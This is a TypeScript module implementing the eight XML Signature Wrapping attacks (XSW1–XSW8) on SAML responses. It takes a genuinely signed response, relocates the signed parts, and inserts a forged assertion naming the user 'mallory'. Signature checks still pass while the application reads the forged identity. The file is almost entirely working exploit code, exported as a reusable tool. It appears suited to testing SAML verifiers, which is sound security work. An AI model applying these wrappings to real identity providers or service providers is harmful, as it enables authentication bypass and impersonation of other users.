/**
 * The eight ways to wrap a signed SAML response around a forged one (Somorovsky and others, "On Breaking SAML: Be Whoever
 * You Want to Be", 2012; numbered as attack tools number them). Each takes a response that a provider signed and moves what is
 * signed to where a verifier may find it, and a forged copy to where a reader may.
 */
import { DOMParser, type Element, XMLSerializer } from '@xmldom/xmldom';

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';

/** What there is to move about: the parts of a signed response, and copies of them. */
interface Parts {
  readonly response: Element;
  /** The response's own signature; null where it has none. */
  readonly responseSignature: Element | null;
  readonly assertion: Element;
  readonly assertionSignature: Element | null;
  /** A copy of the response, without its signature. */
  readonly originalResponse: Element;
  /** A copy of the assertion, without its signature. */
  readonly originalAssertion: Element;
  /** A copy of the assertion, without its signature, that says what the attacker likes. */
  readonly evil: Element;
}

type Wrap = (parts: Parts) => void;

/** A new element of this name; the response's document makes it. */
const made = (parts: Parts, namespace: string, name: string): Element => {
  const element = parts.response.ownerDocument?.createElementNS(namespace, name);
  if (!element) throw new Error('no document');
  return element;
};

const forge = (assertion: Element): void => {
  const name = assertion.getElementsByTagNameNS(ASSERTION, 'NameID')[0];
  if (name) name.textContent = 'mallory';
};

const renamed = (element: Element): Element => {
  element.setAttribute('ID', '_evil');
  return element;
};

export const WRAPPINGS: Readonly<Record<string, Wrap>> = {
  'XSW1: the signed response within the signature of a forged one': ({
    response,
    responseSignature,
    assertion,
    originalResponse,
  }) => {
    (responseSignature ?? response).appendChild(originalResponse);
    forge(assertion);
    renamed(response);
  },
  'XSW2: the signed response before the signature of a forged one': ({
    response,
    responseSignature,
    assertion,
    originalResponse,
  }) => {
    response.insertBefore(originalResponse, responseSignature ?? assertion);
    forge(assertion);
    renamed(response);
  },
  'XSW3: a forged assertion before the signed one': ({ assertion, evil }) => {
    assertion.parentNode?.insertBefore(renamed(evil), assertion);
  },
  'XSW4: a forged assertion around the signed one': ({ assertion, evil }) => {
    assertion.parentNode?.replaceChild(renamed(evil), assertion);
    evil.appendChild(assertion);
  },
  'XSW5: a forged assertion with the signature, the signed one at the end': ({
    response,
    assertion,
    originalAssertion,
  }) => {
    forge(renamed(assertion));
    response.appendChild(originalAssertion);
  },
  'XSW6: a forged assertion, the signed one within its signature': ({
    assertion,
    assertionSignature,
    originalAssertion,
  }) => {
    forge(renamed(assertion));
    (assertionSignature ?? assertion).appendChild(originalAssertion);
  },
  'XSW7: a forged assertion of the same ID in an extension': (parts) => {
    const extensions = made(parts, PROTOCOL, 'samlp:Extensions');
    extensions.appendChild(parts.evil);
    parts.assertion.parentNode?.insertBefore(extensions, parts.assertion);
  },
  'XSW8: a forged assertion, the signed one in an object of its signature': (parts) => {
    const object = made(parts, SIGNATURE, 'ds:Object');
    object.appendChild(parts.originalAssertion);
    (parts.assertionSignature ?? parts.responseSignature ?? parts.response).appendChild(object);
    forge(parts.assertion);
  },
};

/** A signed response, wrapped. */
export function wrapped(xml: string, wrap: Wrap): string {
  const response = new DOMParser().parseFromString(xml, 'text/xml').documentElement;
  if (response === null) throw new Error('no response');
  const [assertion] = childrenOf(response, ASSERTION, 'Assertion');
  if (assertion === undefined) throw new Error('no assertion');
  const evil = unsigned(assertion);
  forge(evil);
  wrap({
    response,
    responseSignature: signatureOf(response),
    assertion,
    assertionSignature: signatureOf(assertion),
    originalResponse: unsigned(response),
    originalAssertion: unsigned(assertion),
    evil,
  });
  return new XMLSerializer().serializeToString(response);
}

const childrenOf = (parent: Element, namespace: string, name: string): readonly Element[] =>
  Array.from(parent.childNodes).filter(
    (node): node is Element => (node as Element).namespaceURI === namespace && (node as Element).localName === name,
  );

const signatureOf = (element: Element): Element | null => childrenOf(element, SIGNATURE, 'Signature')[0] ?? null;

function unsigned(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  const signature = signatureOf(copy);
  if (signature !== null) copy.removeChild(signature);
  return copy;
}
